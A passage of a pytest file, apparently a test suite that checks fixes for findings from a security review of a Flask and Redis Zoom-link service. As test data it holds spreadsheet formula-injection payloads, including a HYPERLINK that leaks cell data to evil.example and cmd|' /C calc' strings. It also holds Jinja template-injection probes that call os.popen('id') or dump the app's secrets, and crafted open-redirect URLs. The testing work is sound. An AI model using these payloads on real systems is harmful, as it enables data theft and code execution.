"""The outside security review (issue 13): one test, or one parametrized group, per finding,
named after it. Each failed on the code before its fix. Tests of Redis-facing code take ``app``
and so run on the embedded store (fakeredis) and on a real redis-server."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import logging
import os
import re
import socket
import ssl
import subprocess
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

import pytest
import redis as redis_lib
import requests
from click.testing import CliRunner
from fake_zoom_api import FakeZoom
from helpers import MEETING_ID, SECRET, START, make_app, path_of
from stack import (
    free_port,
    gunicorn_env,
    nginx_binary,
    start_gunicorn,
    stop,
    wait_for_port,
    write_nginx,
)
from webhook_events import participant, sample, signed
from werkzeug.serving import make_server

from joingate import create_app
from joingate import store as store_module
from joingate.cli import main as cli_main
from joingate.errors import ConfigError, InvalidInput, StorageUnavailable
from joingate.exports import spreadsheet_cell
from joingate.roster import RegistrantInput, read_csv
from joingate.signing import Signer
from joingate.views import link_status
from joingate.worker import Worker
from joingate.zoom.urls import check_join_url

ROOT = Path(__file__).resolve().parent.parent


def deliver(client, clock, body):
    """A webhook delivery signed as Zoom signs it."""
    raw, headers = signed(body, int(clock()))
    return client.post("/webhooks/zoom", data=raw, headers=headers)


def logged(caplog) -> str:
    """Everything logged, as the handlers would write it (message and traceback)."""
    formatter = logging.Formatter("%(name)s %(message)s")
    return "\n".join(formatter.format(record) for record in caplog.records)


ADMIN = {"Authorization": "Bearer organizer-admin-token"}


@pytest.fixture
def api_app(app, store_url, clock):
    """The app on the same store, with the organizer API on (ADMIN)."""
    return make_app(store_url, clock, like=app, ADMIN_TOKEN="organizer-admin-token")


# Finding 1: CSV formula injection. Every CSV joingate writes goes through one neutraliser.

FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&F2,"x")',
            "note": "+cmd|' /C calc'!A0", "zoom_name": "@SUM(1+1)*cmd|' /C calc'!A0",
            "tab": "\t=1+1", "lf": "\n=1+1", "minus": "-2+3"}
SPREADSHEET_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_spreadsheet_safe(text: str) -> list[list[str]]:
    """The CSV rows of ``text``, after checking that no cell starts a formula."""
    rows = rows_of(text)
    assert rows, text
    for row in rows:
        for cell in row:
            assert not cell.startswith(SPREADSHEET_TRIGGERS), (cell, row)
    return rows


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_finding_1_formula_cells_get_a_quote(cell):
    assert spreadsheet_cell(cell) == "'" + cell
    assert spreadsheet_cell("ana@example.org") == "ana@example.org"
    assert spreadsheet_cell("https://gate.example.org/j/x") == "https://gate.example.org/j/x"
    assert spreadsheet_cell(-1) == -1                              # numbers stay numbers


def test_finding_1_every_csv_writer_neutralises_formulas(app, store_url, clock, service,
                                                          meeting, tmp_path):
    roster = tmp_path / "people.csv"
    roster.write_text("email,name,note\n"
                      f"ana@example.org,\"{FORMULAS['name'].replace(chr(34), chr(34) * 2)}\","
                      f"\"{FORMULAS['note']}\"\n"
                      f"{FORMULAS['minus']}@example.org,Ben,\"{FORMULAS['tab']}\"\n"
                      f"cy@example.org,Cy,\"{FORMULAS['lf']}\"\n")
    cli = CliRunner()
    issued = cli.invoke(cli_main, ["links", "issue", meeting, str(roster)], obj=app,
                        catch_exceptions=False)
    assert issued.exit_code == 0, issued.output
    issue_rows = assert_spreadsheet_safe(issued.stdout)
    assert issue_rows[0] == ["email", "name", "note", "link"]
    assert issue_rows[1][:3] == ["ana@example.org", "'" + FORMULAS["name"],
                                 "'" + FORMULAS["note"]]
    assert issue_rows[2][0] == "'" + FORMULAS["minus"] + "@example.org"
    assert issue_rows[2][2] == "'" + FORMULAS["tab"] and issue_rows[3][2] == "'" + FORMULAS["lf"]
    link = issue_rows[1][3]
    assert link.startswith("https://gate.example.org/j/")                  # links stay usable
    assert app.test_client().post(link.removeprefix("https://gate.example.org")).status_code == 303

    registration = sample("registration_created")
    person = registration["payload"]["object"]["registrant"]
    person.update(first_name='=HYPERLINK("http://evil.example/?"&A1', last_name='"x")',
                  email="zed@example.org", id="zedZoomId")
    assert deliver(app.test_client(), clock, registration).get_json() == {"status": "recorded"}
    joined = participant("joined", user_id="u9", name=FORMULAS["zoom_name"],
                         at="2026-12-01T18:01:00Z")
    assert deliver(app.test_client(), clock, joined).get_json() == {"status": "recorded"}

    exported = assert_spreadsheet_safe(cli.invoke(cli_main, ["links", "export", meeting],
                                                  obj=app).stdout)
    assert ["ana@example.org", "'" + FORMULAS["name"]] == exported[1][:2]
    assert any(row[1].startswith("'=HYPERLINK") and row[0] == "zed@example.org"
               for row in exported)
    reported = assert_spreadsheet_safe(cli.invoke(cli_main, ["report", meeting], obj=app).stdout)
    assert ["", "'" + FORMULAS["zoom_name"], "unmatched"] == reported[-1][:3]

    api = make_app(store_url, clock, like=app, ADMIN_TOKEN="organizer-token").test_client()
    bearer = {"Authorization": "Bearer organizer-token"}
    for path in ("links.csv", "report.csv"):
        answer = api.get(f"/api/v1/meetings/{meeting}/{path}", headers=bearer)
        assert answer.status_code == 200
        assert "'" + FORMULAS["name"] in assert_spreadsheet_safe(answer.get_data(as_text=True))[1]


def test_finding_1_zoom_register_output_neutralises_formulas(app, store_url, clock, meeting,
                                                              tmp_path):
    zoom = FakeZoom()
    zoom.add_meeting(meeting)
    try:
        zoom_app = make_app(store_url, clock, like=app, **zoom.settings())
        roster = tmp_path / "people.csv"
        roster.write_text(f"email,name\nana@example.org,\"{FORMULAS['note']}\"\n")
        result = CliRunner().invoke(cli_main, ["zoom", "register", meeting, str(roster)],
                                    obj=zoom_app, catch_exceptions=False)
    finally:
        zoom.close()
    assert result.exit_code == 0, result.output
    rows = assert_spreadsheet_safe(result.stdout)
    assert rows[1][:2] == ["ana@example.org", "'" + FORMULAS["note"]]
    assert rows[1][2].startswith("https://gate.example.org/j/")


# Finding 3: tokens and secrets in logs (Flask's 500 log, `joingate serve`'s access log, a
# config error, the worker's alert failures). conftest.no_secret_in_logs checks every test.


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_finding_3_a_500_on_a_link_logs_no_token(app, client, link, caplog, monkeypatch, method):
    service = app.extensions["joingate"]

    def broken(*args, **kwargs):
        raise RuntimeError("injected fault: nothing real can make this 500 any more")

    monkeypatch.setattr(service.store, "gate", broken)   # both the open and the claim
    answer = client.open(path_of(link), method=method)
    assert answer.status_code == 500
    token = link.url.rsplit("/", 1)[1]
    text = logged(caplog)
    assert "injected fault" in text and f"[{method}]" in text          # the 500 is logged...
    assert token not in text and "/j/WyI" not in text                  # ...without the token
    assert "Exception on /j/" in text


def test_finding_3_joingate_serve_logs_no_token(tmp_path):
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("JOINGATE_")}
    env["JOINGATE_SECRET_KEY"] = SECRET
    errors = tmp_path / "serve.stderr"
    with open(errors, "w") as stderr:
        process = subprocess.Popen([sys.executable, "-m", "joingate.cli", "serve", "--demo",
                                    "--port", str(port)], cwd=ROOT, env=env,
                                   stdout=subprocess.PIPE, stderr=stderr, text=True)
        try:
            links: list[str] = []
            deadline = time.monotonic() + 20
            while len(links) < 2 and time.monotonic() < deadline:
                links += re.findall(r"http://127\.0\.0\.1:\d+/j/\S+", process.stdout.readline())
            wait_for_port(port)
            assert requests.get(links[0], timeout=5).status_code == 200
            assert requests.post(links[1], allow_redirects=False, timeout=5).status_code == 303
            assert requests.get(links[0] + "?x=1", timeout=5).status_code == 200
            mangled = links[0][:-3] + "xyz"
            assert requests.get(mangled, timeout=5).status_code == 404
            raw = socket.create_connection(("127.0.0.1", port), timeout=5)   # a bad request line
            raw.sendall(f"GET {links[0].split(str(port), 1)[1]} JUNK/9\r\n\r\n".encode())
            raw.recv(1000)
            raw.close()
        finally:
            stop(process)
    # Werkzeug colours its access lines in some environments: read them without the escapes.
    text = re.sub(r"\x1b\[[0-9;]*m", "", errors.read_text())
    assert '"GET /j/- HTTP/1.1" 200' in text and '"POST /j/- HTTP/1.1" 303' in text
    for link in links + [mangled]:
        token = link.rsplit("/", 1)[1]
        assert token not in text and token[:40] not in text
    assert "/j/WyI" not in text and SECRET not in text


@pytest.mark.parametrize("variable,value,secret", [
    ("REDIS_URL", "mysql://admin:pa55word-redis@db.example:3306/0", "pa55word-redis"),
    ("ALERT_WEBHOOK_URL", "ftp://hooks.example/s3cret-path?key=s3cret-key", "s3cret"),
    ("ZOOM_JOIN_DOMAIN", "s3cret.example/", None),
], ids=["redis-password", "alert-url-path", "harmless-value-is-shown"])
def test_finding_3_a_config_error_echoes_no_secret(variable, value, secret, monkeypatch):
    monkeypatch.setenv("JOINGATE_SECRET_KEY", SECRET)
    monkeypatch.setenv("JOINGATE_REDIS_URL", "memory://")
    monkeypatch.setenv(f"JOINGATE_{variable}", value)
    result = CliRunner().invoke(cli_main, ["report", "85746065432"])
    assert result.exit_code == 1 and f"JOINGATE_{variable} " in result.output
    if secret:
        assert secret not in result.output
    else:
        assert value in result.output              # non-secret settings still show the value
    wsgi = subprocess.run([sys.executable, "-c", "import wsgi"], cwd=ROOT, text=True,
                          capture_output=True, timeout=60,
                          env={**os.environ, f"JOINGATE_{variable}": value})
    assert wsgi.returncode != 0 and f"JOINGATE_{variable} " in wsgi.stderr
    assert secret is None or secret not in wsgi.stderr


def test_finding_3_the_worker_logs_no_alert_url_secret(app, store_url, clock, meeting, caplog):
    closed = free_port()                                  # nothing listens there
    url = f"http://127.0.0.1:{closed}/hooks/s3cret-path-part?key=q5ecret-query-part"
    alerting = make_app(store_url, clock, like=app, ALERT_WEBHOOK_URL=url)
    joined = participant("joined", user_id="w1", name="Stranger", at="2026-12-01T18:01:00Z")
    assert deliver(alerting.test_client(), clock, joined).status_code == 200
    worker = Worker(alerting.extensions["joingate"])
    worker.tick()                                         # records the violation, sends
    worker.pool.shutdown(wait=True)
    text = logged(caplog)
    assert "failed (attempt 1)" in text and f"127.0.0.1:{closed}" in text
    assert "s3cret" not in text and "q5ecret" not in text and "/hooks/" not in text


# Finding 4: one valid link grew Redis without bound (56,000 opens with random user agents:
# 17 MB in the meeting's user-agent table) and its opens trimmed every other registrant's
# evidence out of the shared, capped event feed.


def test_finding_4_one_link_cannot_crowd_out_others_or_grow_the_meeting(
        app, service, meeting, monkeypatch):
    budget, cap = 6, 10                                 # the shipped 100 and 200, made small
    monkeypatch.setattr(store_module, "LINK_FEED_BUDGET", budget)
    monkeypatch.setattr(store_module, "LINK_OVERFLOW_CAP", cap)
    links = service.meetings.issue_links(meeting, [
        RegistrantInput(f"p{n}@example.org", f"Person {n}") for n in range(4)])
    noisy, *others = links
    client = app.test_client()
    for link in others[:2]:                             # evidence from before the flood
        assert client.post(path_of(link)).status_code == 303
    agents = [f"Bot/{n} " + "x" * 150 for n in range(40)]
    for agent in agents:                                # never refused: a valid link
        assert client.get(path_of(noisy), headers={"User-Agent": agent}).status_code == 200
    assert client.post(path_of(others[2])).status_code == 303     # and after it

    store, k = service.store, service.store.keys
    rid = {link.display_name: registrant_id_of(service, link) for link in links}
    feed = [fields for _, fields in store.redis.xrange(k.events(meeting))]
    assert sum(fields["registrant"] == rid["Person 0"] for fields in feed) == budget
    table = set(store.redis.hvals(k.user_agents(meeting)))
    assert len(table & set(agents)) == budget          # (the others' claims add the client's)
    for link in others:                                 # every other claim is still there
        assert [fields["kind"] for fields in feed
                if fields["registrant"] == rid[link.display_name]] == ["claim"]
        assert [entry.kind for entry in service.meetings.history(meeting,
                rid[link.display_name])] == ["claim"]
    # The link's own history: its first `budget` opens (in the feed) and its newest `cap`
    # (its overflow list, each with its user agent), oldest first.
    own = service.meetings.history(meeting, rid["Person 0"])
    assert [entry.user_agent for entry in own] == agents[:budget] + agents[-cap:]
    assert [entry.kind for entry in own] == ["open"] * (budget + cap)
    assert [entry.at for entry in own] == sorted(entry.at for entry in own)
    assert store.redis.llen(k.overflow(meeting, rid["Person 0"])) == cap
    assert store.registrant(meeting, rid["Person 0"]).opens == len(agents)


def test_finding_4_a_links_overflow_lives_and_dies_with_its_meeting(service, meeting, link,
                                                                   monkeypatch):
    rid = registrant_id_of(service, link)
    monkeypatch.setattr(store_module, "LINK_FEED_BUDGET", 0)     # every open overflows
    service.store.gate("open", meeting, rid, 1, time.time(), "", "dev", "198.51.100.1", "UA/1")
    history, registrant = (service.store.keys.overflow(meeting, rid),
                           service.store.keys.registrant(meeting, rid))
    assert service.store.redis.expiretime(history) == service.store.redis.expiretime(registrant)
    service.meetings.add(meeting, topic="Moved", start=START + timedelta(days=1), duration=90)
    assert service.store.redis.expiretime(history) == service.store.redis.expiretime(registrant)
    assert service.meetings.history(meeting, rid)[0].user_agent == "UA/1"
    service.store.clear_cohort(meeting)
    assert not service.store.redis.exists(history)


def test_finding_4_a_link_past_its_budget_still_reports_a_second_device(
        app, service, meeting, link, monkeypatch):
    # Refusals have their own budget: a link opened (a mail scanner, many rejoins) past its
    # budget still puts its first refusals in the feed, where the worker finds second devices.
    monkeypatch.setattr(store_module, "LINK_FEED_BUDGET", 3)
    first, second = app.test_client(), app.test_client()
    for _ in range(10):
        assert first.get(path_of(link)).status_code == 200
    assert first.post(path_of(link)).status_code == 303
    time.sleep(0.002)      # the feed's times are milliseconds (Store.history): a later one
    assert second.post(path_of(link)).status_code == 409
    rid = registrant_id_of(service, link)
    feed = [fields["kind"] for _, fields in service.store.redis.xrange(
        service.store.keys.events(meeting)) if fields.get("registrant") == rid]
    assert feed == ["open"] * 3 + ["refused"]
    assert [entry.kind for entry in service.meetings.history(meeting, rid)][-2:] == [
        "claim", "refused"]                               # oldest first, overflow included


def test_finding_4_move_attempts_are_budgeted_too(app, service, meeting, link, monkeypatch):
    monkeypatch.setattr(store_module, "LINK_FEED_BUDGET", 3)
    client = app.test_client()
    assert client.post(path_of(link)).status_code == 303
    for n in range(12):
        client.post(f"{path_of(link)}/move/confirm", data={"code": "123456"},
                    headers={"User-Agent": f"Bot/{n}"})
    rid = registrant_id_of(service, link)
    k = service.store.keys
    mine = [fields for _, fields in service.store.redis.xrange(k.events(meeting))
            if fields.get("registrant") == rid and fields["kind"] != "claim"]
    assert len(mine) == 3
    agents = set(service.store.redis.hvals(k.user_agents(meeting)))
    assert len({f"Bot/{n}" for n in range(12)} & agents) == 3
    assert service.store.redis.llen(k.overflow(meeting, rid)) == 9


def test_a_claim_whose_reply_was_lost_hands_the_browser_its_device(app, service, link,
                                                                  monkeypatch):
    # Redis ran the claim (bound a new device) and the reply was lost (a timeout): the 503
    # carries that device's cookie, so the retry is the bound device (303), not a second
    # device refused with 409.
    store = service.store
    real_gate = store.gate

    def ran_then_lost(*args, **kwargs):
        real_gate(*args, **kwargs)
        raise StorageUnavailable("Redis did not answer in time", "timeout")

    monkeypatch.setattr(store, "gate", ran_then_lost)
    browser = app.test_client()
    lost = browser.post(path_of(link))
    assert lost.status_code == 503 and "Location" not in lost.headers
    assert any("jg_device" in value for value in lost.headers.getlist("Set-Cookie"))
    monkeypatch.setattr(store, "gate", real_gate)
    assert browser.post(path_of(link)).status_code == 303
    assert app.test_client().post(path_of(link)).status_code == 409


def registrant_id_of(service, link) -> str:
    return service.signer.read_link_token(link.url.rsplit("/", 1)[1]).registrant_id


# Finding 5: any method string became a metrics label (13,000 made-up methods: 17.6 MB).

def test_finding_5_metric_labels_come_from_a_fixed_set(app, client, link):
    for n in range(60):
        client.open(path_of(link), method=f"MADEUP{n}")
        client.open(f"/no/such/path/{n}", method="GET")
    text = client.get("/metrics").get_data(as_text=True)
    labels = re.findall(r'^joingate_request_seconds_count\{method="([^"]*)",route="([^"]*)"\}',
                        text, re.MULTILINE) or [
        (method, route) for route, method in re.findall(
            r'^joingate_request_seconds_count\{route="([^"]*)",method="([^"]*)"\}', text,
            re.MULTILINE)]
    methods = {method for method, _ in labels}
    routes = {route for _, route in labels}
    assert methods == {"GET", "other"}
    assert routes <= {rule.rule for rule in app.url_map.iter_rules()} | {"unmatched"}
    assert len(labels) <= 3


# Finding 6: open redirect through a join_url that urlsplit and browsers read differently.

BAD_JOIN_URLS = {
    "backslash": "https://evil.example\\.zoom.us/j/1?pwd=x",
    "encoded-backslash-in-host": "https://evil.example%5C.zoom.us/j/1",
    "empty-host": "https:///evil.example/x",
    "userinfo": "https://evil.example@us06web.zoom.us/w/1",
    "port": "https://us06web.zoom.us:8443/w/1",
    "space": "https://us06web.zoom.us/w/1 x",
    "non-ascii": "https://us06web.zoom.us/w/1?pwd=\u00e4",
    "fullwidth-dot": "https://zoom.us\uff0eevil.example/w/1",
    "uppercase-scheme-and-host": "HTTPS://EVIL.EXAMPLE\\.ZOOM.US/w/1",
    "http": "http://us06web.zoom.us/w/1",
}


@pytest.mark.parametrize("bad", BAD_JOIN_URLS.values(), ids=BAD_JOIN_URLS.keys())
def test_finding_6_no_path_stores_a_join_url_browsers_read_elsewhere(app, store_url, clock,
                                                                     meeting, bad):
    email = "mal@example.org"
    with pytest.raises(InvalidInput) as caught:                            # CSV import
        read_csv(f"email,name,join_url\n{email},Mal,\"{bad}\"\n", "zoom.us")
    assert caught.value.details[0]["field"] == "join_url"

    zoom = FakeZoom()
    zoom.add_meeting(meeting)
    zoom.registrants[meeting].append({"id": "malZoomId", "email": email, "first_name": "Mal",
                                      "last_name": "", "status": "approved", "join_url": bad})
    try:
        zoom_app = make_app(store_url, clock, like=app, ADMIN_TOKEN="organizer-token",
                            **zoom.settings())
        api = zoom_app.test_client().post(
            f"/api/v1/meetings/{meeting}/registrants", json={"email": email, "name": "Mal",
                                                             "join_url": bad},
            headers={"Authorization": "Bearer organizer-token"})
        registration = sample("registration_created")
        registration["payload"]["object"]["registrant"].update(email=email, join_url=bad)
        hook = deliver(zoom_app.test_client(), clock, registration)
        cli = CliRunner()
        synced = cli.invoke(cli_main, ["zoom", "sync", meeting], obj=zoom_app)
        roster = f"email,name\n{email},Mal\n"
        registered = cli.invoke(cli_main, ["zoom", "register", meeting, "-"], obj=zoom_app,
                                input=roster)
    finally:
        zoom.close()
    assert api.status_code == 422 and hook.status_code == 400
    assert "skipped 'mal@example.org'" in synced.stderr
    assert registered.exit_code == 1 and "line 2: mal@example.org" in registered.stderr
    stored = app.extensions["joingate"].meetings.registrants(meeting)
    assert [row.email for row in stored] == []                 # nobody was created


@pytest.mark.parametrize("domain", ["", " ", ".", "us", "evil.example/", "zoom.us\\"],
                         ids=["empty", "space", "dot", "top-level-only", "slash", "backslash"])
def test_finding_6_a_join_domain_that_is_not_a_domain_stops_the_start(domain):
    with pytest.raises(ConfigError, match="JOINGATE_ZOOM_JOIN_DOMAIN"):
        create_app(environ={"JOINGATE_SECRET_KEY": SECRET, "JOINGATE_REDIS_URL": "memory://",
                            "JOINGATE_ZOOM_JOIN_DOMAIN": domain})


@pytest.mark.parametrize("url,rebuilt", [
    ("https://us06web.zoom.us/w/85746065432?tk=a.b_c-d&pwd=Q0x3", None),
    ("https://zoom.us/w/85746065432?tk=x", None),
    ("https://us06web.zoom.us?tk=x", "https://us06web.zoom.us/?tk=x"),
    ("https://us06web.zoom.us/w/1?pwd=%C3%A4", None),
], ids=["subdomain", "bare-domain", "no-path", "percent-encoded"])
def test_finding_6_valid_join_urls_are_kept_rebuilt_from_their_parts(url, rebuilt):
    assert check_join_url(url, "zoom.us") == (rebuilt or url)


# Finding 7: the CSP's form-action did not admit the bare join domain that validation accepts
# (in Chromium: tests/test_browser_security.py::test_finding_7_*).

def test_finding_7_form_action_follows_the_join_domain_and_web_host(app, store_url, clock,
                                                                    link):
    custom = make_app(store_url, clock, like=app, ZOOM_JOIN_DOMAIN="zoom.example",
                      ZOOM_WEB_HOST="https://web.zoom.example").test_client()
    csp = custom.get(path_of(link)).headers["Content-Security-Policy"]
    form_action = next(part.split()[1:] for part in csp.split(";")
                       if part.split()[:1] == ["form-action"])
    assert form_action == ["'self'", "https://web.zoom.example", "https://zoom.example",
                           "https://*.zoom.example"]


# Finding 8: an organizer template (TEMPLATE_DIR) printed SECRET_KEY and ran `id`.

TEMPLATE_PROBES = {
    "config": "{{ config.JOINGATE.SECRET_KEY }} {{ config }}",
    "config-items": "{% for k, v in config.items() %}{{ k }}={{ v }} {% endfor %}",
    "cycler-globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "url-for-globals": "{{ url_for.__globals__['current_app'].config }}",
    "request": "{{ request.environ }} {{ request.application.__self__ }}",
    "g-and-session": "{{ g }} {{ session }} {{ get_flashed_messages.__globals__ }}",
    "self-reference": "{{ self.__init__.__globals__ }} {{ self._TemplateReference__context }}",
    "string-class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "meeting-class": "{{ meeting.__class__.__init__.__globals__ }} {{ meeting.items() }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(meeting) }}",
    "attr-filter": "{{ meeting|attr('__class__') }} {{ (meeting|attr('__init__')) }}",
    "catalog": "{{ i18n.translations.info() }}",
    "hidden-catalog": "{{ i18n._translations.info() }}",
}
SECRETS_IN_REACH = (SECRET, "organizer-admin-token", "zoom-secret-token", "alert-secret",
                    "enc0ded", "uid=", "wsgi.", "&lt;class", "&lt;function", "&lt;module",
                    "&lt;built-in", "&lt;bound", "&lt;flask", "&lt;Flask", "&lt;Request",
                    "plural-forms", "content-type")


@pytest.mark.parametrize("probe", TEMPLATE_PROBES.values(), ids=TEMPLATE_PROBES.keys())
def test_finding_8_organizer_templates_reach_no_secret_and_no_code(app, store_url, clock, link,
                                                                   tmp_path, probe):
    folder = tmp_path / "organizer"
    folder.mkdir()
    (folder / "confirm.html").write_text("<p>[" + probe + "]</p>")
    organizer = make_app(store_url, clock, like=app, TEMPLATE_DIR=str(folder),
                         ADMIN_TOKEN="organizer-admin-token", ALERT_SECRET="alert-secret")
    # In Portuguese: the page's language then has a catalog (whose methods must be out of reach).
    page = organizer.test_client().get(path_of(link), headers={"Accept-Language": "pt"})
    assert page.status_code == 200
    body = page.get_data(as_text=True)
    for secret in SECRETS_IN_REACH:
        assert secret not in body, (secret, body[:400])
    # Either the probe rendered to nothing, or it failed and the built-in page took its place.
    assert body.startswith("<p>[") or '<form method="post"' in body


@pytest.mark.parametrize("probe", TEMPLATE_PROBES.values(), ids=TEMPLATE_PROBES.keys())
def test_finding_8_dashboard_templates_are_sandboxed_too(app, store_url, clock, tmp_path, probe):
    # The dashboard's templates come from the same TEMPLATE_DIR (organizer/...): they were
    # rendered by Flask's own environment, with config, request, g and url_for in reach.
    folder = tmp_path / "organizer"
    (folder / "organizer").mkdir(parents=True)
    (folder / "organizer" / "sign_in.html").write_text("<p>[" + probe + "]</p>")
    organizer = make_app(store_url, clock, like=app, TEMPLATE_DIR=str(folder),
                         ADMIN_TOKEN="organizer-admin-token", ALERT_SECRET="alert-secret")
    page = organizer.test_client().get("/organizer/sign-in")
    assert page.status_code == 200
    body = page.get_data(as_text=True)
    for secret in SECRETS_IN_REACH:
        assert secret not in body, (secret, body[:400])
    assert body.startswith("<p>[") or 'name="token"' in body


def test_finding_8_organizer_templates_see_the_documented_context(app, store_url, clock, link,
                                                                 tmp_path):
    folder = tmp_path / "organizer"
    folder.mkdir()
    (folder / "confirm.html").write_text(
        '{% extends "base.html" %}{% block content %}<h1>Welcome, {{ display_name }}</h1>'
        "<p id=when>{{ meeting.start.text }} {{ meeting.start.iso }}</p>"
        "<p id=support>{{ meeting.support }} {{ page }} {{ nonce|length > 10 }}</p>"
        '<form method="post"><button>Join</button></form>{% endblock %}')
    organizer = make_app(store_url, clock, like=app, TEMPLATE_DIR=str(folder))
    body = organizer.test_client().get(path_of(link)).get_data(as_text=True)
    assert "<h1>Welcome, Ana Lima</h1>" in body and "Evening ceramics, week 3" in body
    # The text is the i18n branch's (page language, meeting's zone); this test first had the
    # older "Tuesday 01 December 2026, 18:00 UTC".
    assert "Tuesday, December 1, 2026, 6:00\u202fPM (UTC) 2026-12-01T18:00:00Z" in body
    assert "help@example.org confirm True" in body


# Finding 12: 500s on odd input.


@pytest.mark.parametrize("timestamp", ["\xb2", "1\xb2\xb3", "\xbd", "\u00b9" * 10],
                         ids=["superscript-two", "digits-and-superscripts", "one-half",
                              "superscript-ones"])
def test_finding_12_a_timestamp_of_unicode_digits_is_401(client, clock, meeting, timestamp):
    body = participant("joined", user_id="1", name="Ana", at="2026-12-01T18:01:00Z")
    raw, headers = signed(body, int(clock()))
    headers["x-zm-request-timestamp"] = timestamp
    answer = client.post("/webhooks/zoom", data=raw, headers=headers)
    assert answer.status_code == 401 and answer.get_json()["error"] == "unauthorized"


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize("depth", [200, 5_000, 100_000], ids=["200", "5000", "100000"])
def test_finding_12_deeply_nested_json_is_400(api_app, clock, meeting, depth):
    client = api_app.test_client()
    raw, headers = signed(('{"event": "meeting.participant_joined", "payload": '
                           + nested(depth) + "}").encode(), int(clock()))
    hook = client.post("/webhooks/zoom", data=raw, headers=headers)
    assert hook.status_code == 400 and hook.get_json()["error"] == "bad_request"
    for method, path, body in [
            ("POST", "/api/v1/meetings", '{"id": "123456789", "topic": ' + nested(depth) + "}"),
            ("PATCH", f"/api/v1/meetings/{meeting}", '{"topic": ' + nested(depth) + "}"),
            ("POST", f"/api/v1/meetings/{meeting}/registrants",
             '{"email": "a@example.org", "name": "A", "x": ' + nested(depth) + "}"),
            ("POST", f"/api/v1/meetings/{meeting}/registrants/bulk",
             '{"registrants": ' + nested(depth) + "}")]:
        answer = client.open(path, method=method, data=body, headers=ADMIN,
                             content_type="application/json")
        assert answer.status_code in (400, 422), (path, answer.status_code)
        assert answer.get_json()["error"] in ("invalid_json", "invalid_input")


LONE_SURROGATE = '"Ana \\ud800 Lima"'      # valid JSON, not valid Unicode


def test_finding_12_lone_surrogates_are_refused_or_replaced(api_app, clock, meeting):
    client = api_app.test_client()
    for method, path, body in [
            ("POST", "/api/v1/meetings", '{"id": "123456789", "topic": ' + LONE_SURROGATE
             + ', "start": "2026-12-01T18:00:00Z", "duration": 60}'),
            ("PATCH", f"/api/v1/meetings/{meeting}", '{"topic": ' + LONE_SURROGATE + "}"),
            ("POST", f"/api/v1/meetings/{meeting}/registrants",
             '{"email": "ana@example.org", "name": ' + LONE_SURROGATE + "}"),
            ("POST", f"/api/v1/meetings/{meeting}/registrants/bulk",
             '{"registrants": [{"email": "ana@example.org", "name": ' + LONE_SURROGATE + "}]}")]:
        answer = client.open(path, method=method, data=body, headers=ADMIN,
                             content_type="application/json")
        assert answer.status_code == 400, (path, answer.status_code)
        assert answer.get_json()["error"] == "invalid_json"
    body = participant("joined", user_id="s1", name="placeholder", at="2026-12-01T18:01:00Z")
    raw = json.dumps(body).replace('"placeholder"', LONE_SURROGATE).encode()
    raw, headers = signed(raw, int(clock()))
    hook = client.post("/webhooks/zoom", data=raw, headers=headers)
    assert hook.status_code == 200 and hook.get_json() == {"status": "recorded"}
    assert api_app.extensions["joingate"].presence.report(meeting)["unmatched"][0]["user_name"] == \
        "Ana \ufffd Lima"                                   # recorded, the bad half replaced
    validation = sample("url_validation")
    raw = json.dumps(validation).replace(
        json.dumps(validation["payload"]["plainToken"]), LONE_SURROGATE).encode()
    raw, headers = signed(raw, int(clock()))
    assert client.post("/webhooks/zoom", data=raw, headers=headers).status_code == 200


@pytest.mark.parametrize("field,value", [
    ("join_time", "0001-01-01T00:00:00+01:00"), ("join_time", "9999-12-31T23:59:59-01:00"),
    ("leave_time", "0001-01-01T00:00:00+14:00"), ("join_time", "1969-07-20T20:17:40Z"),
], ids=["year-1-east", "year-9999-west", "leave-year-1", "before-1970"])
def test_finding_12_times_out_of_range_are_clamped_and_reports_answer(api_app, clock, meeting,
                                                                      service, field, value):
    service.meetings.issue_links(meeting, [RegistrantInput("ana@example.org", "Ana Lima")])
    client = api_app.test_client()
    kind = "joined" if field == "join_time" else "left"
    for event in ([participant("joined", user_id="t1", name="Ana Lima",
                               at="2026-12-01T18:01:00Z")] if kind == "left" else []) + [
            participant(kind, user_id="t1", name="Ana Lima", at=value),
            participant("joined", user_id="t2", name="Stranger", at=value)]:
        assert deliver(client, clock, event).status_code == 200
    for path in ("report", "report.csv", "links.csv", "registrants",
                 "registrants/ana@example.org", "events"):
        answer = client.get(f"/api/v1/meetings/{meeting}/{path}", headers=ADMIN)
        assert answer.status_code == 200, (path, answer.status_code)
    report = client.get(f"/api/v1/meetings/{meeting}/report", headers=ADMIN).get_json()
    for row in report["unmatched"]:
        assert "1970-01-01T00:00:00Z" <= row["join_time"] <= "9999-12-31T23:59:59Z"
    result = CliRunner().invoke(cli_main, ["report", meeting], obj=api_app)
    assert result.exit_code == 0, result.output


# Finding 14: the registrant id in every token was sha256(email)[:16]: a forwarded link let
# anyone test candidate emails, and knowing an email gave the customer_key matching accepts.

def test_finding_14_registrant_ids_are_keyed_and_stable_across_key_rotation(app, store_url,
                                                                            clock, meeting):
    email = "ana.lima@example.org"
    first = app.extensions["joingate"].meetings.issue_links(
        meeting, [RegistrantInput(email, "Ana")])[0]
    rid = Signer(SECRET).read_link_token(first.url.rsplit("/", 1)[1]).registrant_id
    assert re.fullmatch(r"[0-9a-f]{16}", rid)
    for guess in (email, email.upper(), f" {email} "):               # not computable from it
        assert rid != hashlib.sha256(guess.strip().lower().encode()).hexdigest()[:16]
    assert rid != hmac.new(SECRET.encode(), email.encode(), hashlib.sha256).hexdigest()[:16]

    new_key = "rotated-secret-key-of-at-least-32-characters"
    rotated = make_app(store_url, clock, like=app, SECRET_KEY=new_key,
                       SECRET_KEY_FALLBACKS=[SECRET])
    service = rotated.extensions["joingate"]
